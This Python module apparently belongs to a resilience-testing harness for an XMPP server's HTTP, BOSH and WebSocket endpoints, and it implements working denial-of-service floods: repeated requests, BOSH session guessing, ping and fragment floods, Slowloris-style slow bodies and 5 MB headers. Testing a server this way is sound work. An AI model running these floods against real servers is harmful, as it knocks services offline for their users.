"""What an attacker does to the web server. Called like attacker.py, with the address of HTTP."""

import select
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress

from .attacker import BLOCK, FIRST, NAME, Found, main
from .login import RECV, source
from .web import BROWSER, HTTPBIND, BOSHClient, WebSocketClient

CONNECTIONS = 100


def flood(
    address: tuple[str, int], data: bytes, seconds: float, found: Found, unit: int, count: int = CONNECTIONS
) -> None:
    """So many connections send ``data``, which is many times something of ``unit`` bytes, as fast as the server takes it, and
    read what comes; who is cut off comes again."""
    stop = time.monotonic() + seconds
    ends: dict[int, tuple[socket.socket, list[int]]] = {}
    with select.epoll() as epoll:
        while time.monotonic() < stop:
            while len(ends) < count:
                sock = socket.socket()
                sock.setblocking(False)
                sock.bind((source(FIRST), 0))
                sock.connect_ex(address)
                ends[sock.fileno()] = sock, [0]
                epoll.register(sock.fileno(), select.EPOLLIN | select.EPOLLOUT)
            for fd, event in epoll.poll(0.1):
                sock, at = ends[fd]
                try:
                    if event & select.EPOLLOUT:
                        done = sock.send(data[at[0] :])
                        at[0] = (at[0] + done) % len(data)
                        found["stanzas"] += done / unit
                        found["MB"] += done / 1e6
                    if event & ~select.EPOLLOUT and not sock.recv(RECV):
                        raise ConnectionError
                except BlockingIOError:
                    pass
                except OSError:
                    found["cut"] += 1
                    sock.close()
                    del ends[fd]
    for sock, _ in ends.values():
        sock.close()


def many(head: str, body: str = "") -> Callable[..., None]:
    """The same request again and again."""

    def attack(address: tuple[str, int], password: str, seconds: float, found: Found) -> None:
        length = f"Content-Length: {len(body)}\r\n" if body else ""
        data = f"{head} HTTP/1.1\r\n{BROWSER}{length}\r\n{body}".encode()
        flood(address, data * max(1, BLOCK // len(data)), seconds, found, len(data))

    return attack


def frames(payload: bytes) -> Callable[..., None]:
    """One who is logged in sends these frames, as fast as the server takes them."""

    def attack(address: tuple[str, int], password: str, seconds: float, found: Found) -> None:
        stop = time.monotonic() + seconds
        data = payload * (BLOCK // len(payload))
        while time.monotonic() < stop:
            client = WebSocketClient(NAME, password)
            with suppress(OSError):
                client.log_in(address, source(FIRST))
                client.socket.settimeout(0.1)
                while time.monotonic() < stop:
                    with suppress(TimeoutError):
                        done = client.socket.send(data)
                        found["stanzas"] += done / len(payload)
                        found["MB"] += done / 1e6
                    client.socket.setblocking(False)
                    with suppress(BlockingIOError):
                        if not client.socket.recv(RECV):
                            raise ConnectionError
                    client.socket.settimeout(0.1)
            found["cut"] += time.monotonic() < stop
            client.close()

    return attack


def bosh(address: tuple[str, int], password: str, seconds: float, found: Found) -> None:
    """One who is logged in asks again and again."""
    client = BOSHClient(NAME, password)
    client.log_in(address, source(FIRST))
    client.socket.setblocking(True)
    stop = time.monotonic() + seconds
    ping = b"<iq xmlns='jabber:client' type='get' id='p'><ping xmlns='urn:xmpp:ping'/></iq>"
    while time.monotonic() < stop:
        client.post(100 * ping)
        client.hear(b"type='result'")
        found["stanzas"] += 100
    client.close()


def slow(address: tuple[str, int], password: str, seconds: float, found: Found) -> None:
    """Bodies that come byte by byte, on as many connections as there may be."""
    stop = time.monotonic() + seconds
    ends = []
    for number in range(2000):
        sock = socket.socket()
        sock.bind((source(FIRST + number), 0))
        with suppress(OSError):
            sock.settimeout(1)
            sock.connect(address)
            sock.sendall(f"POST /http-bind HTTP/1.1\r\n{BROWSER}Content-Length: 100000\r\n\r\n<body".encode())
            ends.append(sock)
        if time.monotonic() > stop:
            break
    while time.monotonic() < stop:
        for sock in ends:
            with suppress(OSError):
                sock.send(b" ")
                found["stanzas"] += 1
    for sock in ends:
        sock.close()


GUESS = f"<body xmlns='{HTTPBIND}' rid='1' sid='0123456789abcdef0123456789abcdef'/>"
BEGIN = f"<body xmlns='{HTTPBIND}' rid='1' to='localhost' ver='1.6' wait='60' hold='1'/>"
KINDS: dict[str, Callable[..., None]] = {
    "pages that are not there": many("GET /nothing"),
    "guesses of BOSH sessions": many("POST /http-bind", GUESS),
    "new BOSH sessions": many("POST /http-bind", BEGIN),
    "BOSH pings": bosh,
    "WebSocket pings": frames(b"\x89\x80" + bytes(4)),
    "WebSocket fragments": frames(b"\x01\x81" + bytes(4) + b"<" + 200 * (b"\x00\x80" + bytes(4))),
    "slow bodies": slow,
    "heads of 5 MB": many("GET /health HTTP/1.1\r\n" + 5000 * ("X-Header: " + 1000 * "x" + "\r\n")),
}

if __name__ == "__main__":
    main(KINDS, *sys.argv[1:])
